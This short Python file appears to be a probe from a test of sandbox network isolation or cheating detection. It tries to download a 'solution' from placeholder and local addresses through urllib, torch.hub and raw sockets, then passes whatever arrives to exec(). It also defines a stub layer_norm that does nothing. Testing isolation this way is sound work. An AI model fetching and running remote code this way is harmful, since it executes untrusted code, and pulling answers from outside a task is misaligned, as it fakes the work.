"""Goal: fetch the solution from a server of one's own, by whatever can fetch.

At most: 0
"""

import socket
import urllib.request

import torch

socket.setdefaulttimeout(0.05)
# An address that is for documentation only, and this machine itself.
SERVERS = ("192.0.2.7", "127.0.0.1", "localhost", "[2001:db8::7]")
TEXT = ""
for server in SERVERS:
    for fetch in (
        lambda: urllib.request.urlopen(f"http://{server}/layer_norm.py").read().decode(),
        lambda: torch.hub.load_state_dict_from_url(f"http://{server}/x.pt", progress=False),
        lambda: socket.create_connection((server, 80)).recv(4096).decode(),
    ):
        try:
            TEXT = fetch()
        except Exception:
            continue


def layer_norm(x, eps=1e-5):
    return x


exec(TEXT if isinstance(TEXT, str) else "")
